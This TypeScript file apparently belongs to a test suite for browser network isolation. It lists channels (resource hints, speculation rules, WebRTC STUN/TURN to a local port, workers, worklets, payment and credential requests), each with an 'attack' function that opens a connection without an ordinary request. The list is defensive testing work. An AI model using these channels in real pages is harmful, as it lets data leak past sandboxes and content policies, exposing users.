import type { Channel } from "./channel.ts";

/** Hints, peers and workers: what opens connections without being a request of the document. */
export const connectionChannels: readonly Channel[] = [
  { name: "preload", attack: ({ url }) => document.head.insertAdjacentHTML("beforeend", `<link rel="preload" as="image" href="${url}">`) },
  { name: "modulepreload", attack: ({ url }) => document.head.insertAdjacentHTML("beforeend", `<link rel="modulepreload" href="${url}">`) },
  { name: "prefetch", attack: ({ url }) => document.head.insertAdjacentHTML("beforeend", `<link rel="prefetch" href="${url}">`) },
  { name: "preconnect", attack: ({ host }) => document.head.insertAdjacentHTML("beforeend", `<link rel="preconnect" href="http://${host}">`) },
  {
    name: "dns-prefetch",
    attack: ({ host }) =>
      document.head.insertAdjacentHTML(
        "beforeend",
        `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="http://${host}">`,
      ),
  },
  {
    name: "speculation-prefetch",
    attack: ({ url }) => {
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] });
      document.head.append(rules);
    },
  },
  {
    name: "speculation-prerender",
    attack: ({ url }) => {
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = JSON.stringify({ prerender: [{ source: "list", urls: [url], eagerness: "immediate" }] });
      document.head.append(rules);
    },
  },
  {
    name: "webrtc-stun",
    alone: true,
    mayEndProcess: true,
    attack: async ({ port }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: "webrtc-turn-tcp",
    alone: true,
    mayEndProcess: true,
    attack: async ({ port }) => {
      const iceServers = [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: "secret", credential: "x" }];
      const peer = new RTCPeerConnection({ iceServers });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: "webrtc-nested",
    alone: true,
    mayEndProcess: true,
    attack: ({ port }) => {
      const frame = document.createElement("iframe");
      frame.srcdoc = `<script>const peer = new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${port}"}]});
peer.createDataChannel("leak"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));</script>`;
      document.body.append(frame);
    },
  },
  {
    name: "worker-blob",
    attack: ({ url }) => {
      const code = `importScripts(${JSON.stringify(url)}); fetch(${JSON.stringify(url)}, { mode: "no-cors" });`;
      void new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    },
  },
  { name: "worker-data", attack: ({ url }) => void new Worker(`data:text/javascript,fetch(${JSON.stringify(url)},{mode:"no-cors"})`) },
  { name: "shared-worker", attack: ({ url }) => void new SharedWorker(`data:text/javascript,fetch(${JSON.stringify(url)},{mode:"no-cors"})`) },
  {
    name: "service-worker",
    attack: ({ url }) => void navigator.serviceWorker.register(`/service-worker.js?to=${encodeURIComponent(url)}`).catch(() => {}),
  },
  {
    name: "worklet",
    attack: ({ url }) => void new AudioContext().audioWorklet.addModule(url).catch(() => {}),
  },
  {
    name: "payment-manifest",
    attack: ({ url }) => {
      const details = { total: { label: "x", amount: { currency: "EUR", value: "1" } } };
      void new PaymentRequest([{ supportedMethods: url }], details).canMakePayment().catch(() => {});
    },
  },
  {
    name: "federated-credential",
    attack: ({ url }) => {
      const identity = { providers: [{ configURL: url, clientId: "x" }] };
      const options: CredentialRequestOptions & { readonly identity: unknown } = { identity };
      void navigator.credentials.get(options).catch(() => {});
    },
  },
];
